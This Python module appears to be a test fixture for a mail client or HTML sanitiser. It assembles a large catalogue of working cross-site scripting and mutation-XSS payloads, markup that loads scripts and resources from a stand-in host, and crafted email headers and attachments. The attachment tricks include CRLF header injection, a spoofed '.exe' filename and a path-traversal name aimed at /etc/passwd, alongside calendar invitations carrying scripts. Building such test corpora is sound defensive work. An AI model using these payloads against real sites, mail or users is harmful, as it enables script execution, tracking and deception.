"""A collection of content that attacks whoever looks at it: markup, header fields, file names, invitations.

`BEACON` is what any of it would fetch, `CALL` what any of it would run. A page test asks a browser; a unit test reads.
"""

from __future__ import annotations

import base64

BEACON = "http://beacon.example/fetched"
CALL = "alert('executed')"
WORDS = "Harmless words"
"""Stand in every one, and must still be readable."""

_SCRIPT = f"<script>{CALL}</script>"
_IMAGE = f'<img src=x onerror="{CALL}">'
_ENCODED_SVG = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CALL}"/>'.encode()).decode()

MARKUP = {
    # scripts, however written
    "script": _SCRIPT,
    "script with source": f'<script src="{BEACON}.js"></script>',
    "script in capitals": f"<SCRIPT>{CALL}</SCRIPT>",
    "script with a slash": f"<script/x>{CALL}</script>",
    "script inside a script tag": f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "script never closed": f"<script>{CALL}",
    "script with NUL in its name": f"<scr\0ipt>{CALL}</scr\0ipt>",
    "script without its end": f"<script {CALL}//",
    "script as a module": f'<script type="module">import "{BEACON}.js"</script>',
    "script in an unknown element": f"<x-y>{_SCRIPT}</x-y>",
    "less-than signs": f"<<<script>>{CALL}<</script>>",
    "entities": f"&lt;script&gt;{CALL}&lt;/script&gt;",
    "entities twice": f"&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt;",
    "numeric entities without end": f"&#60script&#62{CALL}&#60/script&#62",
    "UTF-7": f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    "fullwidth signs": f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    # event handlers
    "onerror": _IMAGE,
    "onerror without quotes": f"<img src=x onerror={CALL}>",
    "onerror behind a slash": f"<img/src=x/onerror={CALL}>",
    "onerror behind a line feed": f"<img src=x\n\fonerror\n=\n{CALL}>",
    "onerror in backticks": f"<img src=`x` onerror=`{CALL}`>",
    "onload of the body": f'<body onload="{CALL}">',
    "onload of a frameset": f'<frameset onload="{CALL}">',
    "onmouseover": f'<b onmouseover="{CALL}">b</b>',
    "onfocus with autofocus": f'<input autofocus onfocus="{CALL}">',
    "ontoggle": f'<details open ontoggle="{CALL}">d</details>',
    "onbegin": f'<svg><animate onbegin="{CALL}" attributeName=x dur=1s></svg>',
    "onanimationstart": f'<style>@keyframes x{{}}</style><p style="animation-name:x" onanimationstart="{CALL}">p</p>',
    "onscroll": f'<marquee onstart="{CALL}">m</marquee>',
    "onpointerenter on a link": f'<a href="#" onpointerenter="{CALL}">l</a>',
    "handler in a closing tag": f'</p onclick="{CALL}">',
    "handler by an odd name": f'<p on\u017fubmit="{CALL}" xmlns:on="x" on:click="{CALL}">p</p>',
    # links and addresses
    "javascript link": f'<a href="javascript:{CALL}">l</a>',
    "javascript link with a tab": f'<a href="java\tscript:{CALL}">l</a>',
    "javascript link in entities": f'<a href="&#106;&#x61;vascript&colon;{CALL}">l</a>',
    "javascript link behind a control": f'<a href="\x01javascript:{CALL}">l</a>',
    "vbscript link": f'<a href="vbscript:{CALL}">l</a>',
    "data link": f'<a href="data:text/html,{_SCRIPT}">l</a>',
    "data link in base64": f'<a href="data:text/html;base64,{base64.b64encode(_SCRIPT.encode()).decode()}">l</a>',
    "link with a ping": f'<a href="{BEACON}" ping="{BEACON}">l</a>',
    "link with a script behind its target": f'<a href="{BEACON}&quot;&gt;{_SCRIPT.replace("<", "&lt;")}">l</a>',
    "xlink": f'<svg><a xlink:href="javascript:{CALL}"><text>l</text></a></svg>',
    "area": f'<map name=m><area href="javascript:{CALL}"></map><img usemap=#m>',
    # what loads by itself
    "image": f'<img src="{BEACON}.png">',
    "image with srcset": f'<img srcset="{BEACON}.png 1x, {BEACON}2.png 2x">',
    "image loaded late": f'<img loading=lazy src="{BEACON}.png" lowsrc="{BEACON}.png" dynsrc="{BEACON}.png">',
    "the old name of image": f'<image src="{BEACON}.png">',
    "picture": f'<picture><source srcset="{BEACON}.png"><img src="{BEACON}.png"></picture>',
    "video": f'<video poster="{BEACON}.png" src="{BEACON}.mp4" autoplay><source src="{BEACON}.mp4"></video>',
    "audio": f'<audio src="{BEACON}.mp3" autoplay></audio>',
    "track": f'<video><track src="{BEACON}.vtt" default></video>',
    "frame": f'<iframe src="{BEACON}"></iframe>',
    "frame with its document": f'<iframe srcdoc="{_SCRIPT.replace("<", "&lt;")}"></iframe>',
    "javascript frame": f'<iframe src="javascript:{CALL}"></iframe>',
    "object": f'<object data="{BEACON}.swf"><param name=movie value="{BEACON}.swf"></object>',
    "embed": f'<embed src="{BEACON}.svg">',
    "applet": f'<applet code=x codebase="{BEACON}"></applet>',
    "portal and fencedframe": f'<portal src="{BEACON}"></portal><fencedframe src="{BEACON}"></fencedframe>',
    "background of the body": f'<body background="{BEACON}.png">',
    "background of a table": f'<table background="{BEACON}.png"><tr><td background="{BEACON}.png">c</td></tr></table>',
    "input of type image": f'<input type=image src="{BEACON}.png" formaction="{BEACON}">',
    "quote with a source": f'<blockquote cite="{BEACON}">q</blockquote><q cite="{BEACON}">q</q>',
    "button with a popover": f'<button popovertarget=x onclick="{CALL}">b</button><div popover id=x>p</div>',
    # the document's head
    "refresh": f'<meta http-equiv=refresh content="0;url={BEACON}">',
    "refresh to javascript": f'<meta http-equiv="refresh" content="0;url=javascript:{CALL}">',
    "policy of its own": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "base": f'<base href="{BEACON}/"><a href="x">l</a><img src="y.png">',
    "base with a target": '<base target="_top">',
    "style sheet": f'<link rel=stylesheet href="{BEACON}.css">',
    "prefetch": f'<link rel="dns-prefetch preconnect prefetch" href="{BEACON}"><link rel=preload as=image href="{BEACON}">',
    "manifest and icon": f'<link rel=manifest href="{BEACON}"><link rel=icon href="{BEACON}.ico">',
    "html with a manifest": f'<html manifest="{BEACON}" xmlns="x" onload="{CALL}"><p>h</p></html>',
    # style
    "style that imports": f'<style>@import "{BEACON}.css";</style>',
    "style with a font": f"<style>@font-face{{font-family:x;src:url({BEACON}.woff)}}p{{font-family:x}}</style><p>p</p>",
    "style with a picture": f'<p style="background:url({BEACON}.png)">p</p>',
    "style with image-set": f"<p style=\"background-image:image-set('{BEACON}.png' 1x)\">p</p>",
    "style with an expression": f'<p style="width:expression({CALL})">p</p>',
    "style with a behaviour": f'<p style="behavior:url({BEACON}.htc);-moz-binding:url({BEACON}.xml#x)">p</p>',
    "style escaped": f'<p style="b\\61ckground:\\75rl({BEACON}.png)">p</p>',
    "style that covers the page": '<p style="position:fixed;inset:0;z-index:9999">p</p>',
    "style never closed": f"<style>{_IMAGE}",
    "style of lists": f'<ul style="list-style-image:url({BEACON}.png)"><li>i</li></ul>',
    # forms
    "form": f'<form action="{BEACON}" method=post><input name=p value=1><button>b</button></form>',
    "form action on a button": f'<form><button formaction="javascript:{CALL}">b</button></form>',
    "form elsewhere": f'<form id=f action="{BEACON}"></form><input form=f name=p><isindex action="{BEACON}">',
    "form that hides the document": "<form name=body><input name=firstChild></form><img name=cookie>",
    "text area": f"<textarea></textarea>{_IMAGE}<textarea>t</textarea>",
    "select": f"<select><option>{_IMAGE}</option></select>",
    # other namespaces
    "svg": f'<svg onload="{CALL}"></svg>',
    "svg with a slash": f"<svg/onload={CALL}>",
    "svg with a script": f"<svg>{_SCRIPT}</svg>",
    "svg script by reference": f'<svg><script href="data:text/javascript,{CALL}"/></svg>',
    "svg image": f'<svg><image href="{BEACON}.png" xlink:href="{BEACON}.png"/><feImage href="{BEACON}.png"/></svg>',
    "svg use": f'<svg><use href="data:image/svg+xml;base64,{_ENCODED_SVG}#x"/></svg>',
    "svg with foreign objects": f"<svg><foreignObject><body>{_IMAGE}</body></foreignObject></svg>",
    "svg with style": f'<svg><style>@import "{BEACON}.css";</style></svg>',
    "svg that sets": f'<svg><a id=x><set attributeName=href to="javascript:{CALL}"/></a></svg>',
    "math": f'<math><maction actiontype="statusline#{BEACON}" xlink:href="javascript:{CALL}">m</maction></math>',
    "xml": f'<?xml version="1.0"?><?xml-stylesheet href="{BEACON}.xsl"?><x xmlns:s="http://www.w3.org/1999/xhtml"><s:script>{CALL}</s:script></x>',
    "xhtml": f'<html:script xmlns:html="http://www.w3.org/1999/xhtml">{CALL}</html:script>',
    "CDATA": f"<![CDATA[{_SCRIPT}]]>{_SCRIPT}",
    "CDATA in svg": f"<svg><![CDATA[><{_IMAGE}]]></svg>",
    "entity declarations": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{BEACON}">]><p>&e;</p>',
    "name spaces of Office": f'<xml><o:p>o</o:p><v:image src="{BEACON}.png"/></xml>',
    # what changes its meaning when it is read again
    "mutation by noscript": f'<noscript><p title="</noscript>{_IMAGE.replace(chr(34), "")}"></noscript>',
    "mutation by math and style": f"<math><mtext><table><mglyph><style><!--</style>{_IMAGE}",
    "mutation by nested forms": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>{_IMAGE.replace(chr(34), '')}\">",
    "mutation by svg and title": f'<svg></p><title><a id="</title>{_IMAGE.replace(chr(34), "")}"></svg>',
    "mutation by a template": f'<template><p title="</template>{_IMAGE.replace(chr(34), "")}"></template>',
    "mutation by listing": f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>",
    "mutation by plaintext": f"<svg><plaintext>{_IMAGE}",
    "mutation by xmp": f"<xmp></xmp>{_IMAGE}<xmp><p title=\"</xmp>{_IMAGE.replace(chr(34), '')}\">",
    "mutation by noembed and noframes": f"<noembed>{_IMAGE}</noembed><noframes>{_IMAGE}</noframes>",
    "mutation by select": f"<select><template><style><!--</template>{_IMAGE}--></style></select>",
    "mutation by annotation": f'<math><annotation-xml encoding="text/html"><style>{_IMAGE}</style></annotation-xml></math>',
    "mutation by desc": f"<svg><desc><noscript>&lt;/noscript&gt;{_IMAGE}</noscript></desc></svg>",
    "mutation by a font": f"<math><font><style>{_IMAGE}</style></font></math>",
    # comments
    "comment that ends early": f"<!-->{_IMAGE}-->",
    "comment that ends oddly": f"<!--x--!>{_IMAGE}-->",
    "comment that never ends": f"<p>p</p><!-- {_IMAGE}",
    "comment on a condition": f"<!--[if gte IE 4]>{_SCRIPT}<![endif]--><![if !mso]>{_IMAGE}<![endif]>",
    "bogus comments": f"<!x{_IMAGE}><?{_IMAGE}></{_IMAGE}>",
    # quotes, spaces, controls
    "attribute never closed": f'<img alt="{_IMAGE}',
    "alternative text": f"<img alt='\">{_IMAGE}' src={BEACON}.png>",
    "alternative text in entities": f'<img alt="&quot;&gt;&lt;img src=x onerror={CALL}&gt;">',
    "NUL in an attribute": f'<img src="x" on\0error="{CALL}">',
    "characters that turn": f'<a href="{BEACON}/\u202egpj.exe">\u202etxt\u2066</a>',
    "width of a cell": f'<table><tr><td colspan="2&quot; onmouseover={CALL}" rowspan=\'"{CALL}\'>c</td></tr></table>',
    "numbers that are none": "<table><tr><td colspan='\u0662' rowspan='99999999999'>c</td></tr></table>",
    "template braces": "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
}  # fmt: skip


def page(markup: str) -> str:
    """As a mail's HTML: the words that must stay stand before it."""
    return f"<p>{WORDS}</p>{markup}"


def _header(field: str = "", kind: str = "text/plain; charset=utf-8") -> str:
    top = "" if field.startswith("From:") else f"From: {WORDS} <a@mission.example>\r\n"
    subject = "" if field.startswith("Subject:") else "Subject: s\r\n"
    return f"{top}{subject}{field}{chr(13) + chr(10) if field else ''}MIME-Version: 1.0\r\nContent-Type: {kind}\r\n\r\n"


def _plain(field: str) -> bytes:
    return (_header(field) + f"{WORDS}\r\n").encode()


def _part(fields: str, body: str = "x") -> bytes:
    top = _header(kind='multipart/mixed; boundary="b"')
    words = f"--b\r\nContent-Type: text/plain\r\n\r\n{WORDS}\r\n"
    return f"{top}{words}--b\r\n{fields}\r\n\r\n{body}\r\n--b--\r\n".encode()


def _word(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def _invitation(line: str) -> bytes:
    event = f"BEGIN:VCALENDAR\r\nMETHOD:{_IMAGE}\r\nBEGIN:VEVENT\r\n{line}\r\nEND:VEVENT\r\nEND:VCALENDAR"
    return _part("Content-Type: text/calendar; method=REQUEST", event)


CONTENT = {
    "subject": _plain(f"Subject: {_SCRIPT}"),
    "subject in an encoded-word": _plain(f"Subject: {_word(_SCRIPT)}"),
    "subject with NUL": _plain("Subject: " + _word("a\0b" + _IMAGE)),
    "subject with a line end": _plain("Subject: " + _word("a\r\nX: y\r\n\r\n" + _IMAGE)),
    "subject in UTF-7": _plain("Subject: =?utf-7?q?+ADw-script+AD4-alert(1)+ADw-/script+AD4-?="),
    "display name": _plain(f'From: "{_IMAGE.replace(chr(34), "")}" <a@mission.example>'),
    "display name in an encoded-word": _plain(f"From: {_word(_IMAGE)} <a@mission.example>"),
    "local part": _plain(f'From: "{_SCRIPT}"@mission.example'),
    "recipients": _plain(f"To: {_SCRIPT} <b@police.example>, {_word(_IMAGE)} <c@police.example>"),
    "date": _plain(f"Date: {_SCRIPT}"),
    "message-id": _plain(f"Message-ID: <{_SCRIPT}@mission.example>"),
    "name of a field": _plain(f"X-{_IMAGE.replace(' ', '/')}: x"),
    "value of a field": _plain(f"X-Mailer: {_SCRIPT}"),
    "name of a file": _part(f'Content-Disposition: attachment; filename="{_IMAGE.replace(chr(34), "")}.pdf"'),
    "name of a file, extended": _part("Content-Disposition: attachment; filename*=utf-8''%3Cimg%20src=x%20onerror=alert(1)%3E"),
    "name of a file, continued": _part('Content-Disposition: attachment; filename*0="<scr"; filename*1="ipt>"'),
    "name of a file, an encoded-word": _part(f'Content-Type: application/pdf; name="{_word(_IMAGE)}"'),
    "name of a file that turns": _part("Content-Disposition: attachment; filename*=utf-8''%E2%80%AEfdp.exe"),
    "name of a file that climbs": _part('Content-Disposition: attachment; filename="..\\\\..\\\\..%2f/etc/passwd"'),
    "type of a file": _part(f"Content-Type: application/{_IMAGE.replace(' ', '/')}; x=y"),
    "charset": _part(f'Content-Type: text/plain; charset="{_SCRIPT}"'),
    "transfer encoding": _part(f"Content-Transfer-Encoding: {_SCRIPT}"),
    "plain text": (_header() + f"{WORDS}\r\n{_SCRIPT}\r\n{_IMAGE}").encode(),
    "plain text in UTF-7": (_header(kind="text/plain; charset=utf-7") + f"{WORDS} {MARKUP['UTF-7']}").encode(),
    "HTML in UTF-7": (_header(kind="text/html; charset=utf-7") + f"{WORDS} {MARKUP['UTF-7']}").encode(),
    "HTML in UTF-16": _header(kind="text/html; charset=utf-16").encode() + page(_SCRIPT + _IMAGE).encode("utf-16"),
    "HTML in HZ": _header(kind="text/html; charset=hz-gb-2312").encode() + page("~{~}" + _SCRIPT + "~{<:").encode(),
    "HTML that names its charset": (_header(kind="text/html") + page(f'<meta charset="utf-7">{MARKUP["UTF-7"]}')).encode(),
    "HTML called plain by its parts": _part("Content-Type: text/plain", _SCRIPT + _IMAGE),
    "HTML with NULs": (_header(kind="text/html") + page(f"<\0s\0cript>{CALL}</script>")).encode(),
    "HTML in base64": _header(kind="text/html\r\nContent-Transfer-Encoding: base64").encode() + base64.encodebytes(page(_SCRIPT + _IMAGE).encode()),
    "HTML in quoted-printable": (_header(kind="text/html\r\nContent-Transfer-Encoding: quoted-printable") + page("=3Cscript=3Ealert(1)=3C/script=3E")).encode(),
    "XHTML": _part("Content-Type: application/xhtml+xml", f'<html xmlns="http://www.w3.org/1999/xhtml">{_SCRIPT}</html>'),
    "XML": _part("Content-Type: text/xml", f'<?xml-stylesheet href="{BEACON}.xsl"?><x>{_SCRIPT}</x>'),
    "SVG": _part('Content-Type: image/svg+xml; name="x.svg"', f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CALL}"/>'),
    "SVG to be read at once": _part("Content-Type: image/svg+xml\r\nContent-Disposition: inline", f"<svg onload={CALL}>"),
    "enriched text": _part("Content-Type: text/enriched", f"<bold>{_IMAGE}</bold>"),
    "summary of an invitation": _invitation(f"SUMMARY:{_SCRIPT}"),
    "place of an invitation": _invitation(f"LOCATION:{BEACON}\\n{_IMAGE}"),
    "organizer of an invitation": _invitation(f"ORGANIZER;CN={_IMAGE.replace(';', '').replace(chr(34), '')}:mailto:{_SCRIPT}@mission.example"),
    "times of an invitation": _invitation(f"DTSTART;TZID={_SCRIPT}:20261125T100000\r\nDTEND:{_IMAGE}\r\nRRULE:{_SCRIPT}"),
    "description of an invitation": _invitation(f"DESCRIPTION:{_SCRIPT}\\n{_IMAGE}\r\nX-ALT-DESC;FMTTYPE=text/html:{_IMAGE}"),
    "attached message": _part("Content-Type: message/rfc822", f"From: {_SCRIPT}\r\nSubject: {_word(_IMAGE)}\r\nDate: {_IMAGE}\r\n\r\n{_SCRIPT}"),
    "delivery report": _part("Content-Type: message/delivery-status", f"Diagnostic-Code: smtp; {_SCRIPT}"),
    "parts inside each other": _part('Content-Type: multipart/alternative; boundary="c"', f"--c\r\nContent-Type: text/html\r\n\r\n{_SCRIPT}{_IMAGE}\r\n--c--"),
    "related picture": _part("Content-Type: image/png\r\nContent-ID: <x>\r\nContent-Disposition: inline", "x"),
    "boundary of its own": (_header(kind=f'multipart/mixed; boundary="{_IMAGE.replace(chr(34), "")}"') + f"{WORDS}\r\n").encode(),
    "words that turn": _plain("Subject: =?utf-8?q?=E2=80=AEtxt=E2=81=A6?="),
    **{f"HTML: {name}": (_header(kind="text/html; charset=utf-8") + page(markup)).encode() for name, markup in MARKUP.items()},
}  # fmt: skip
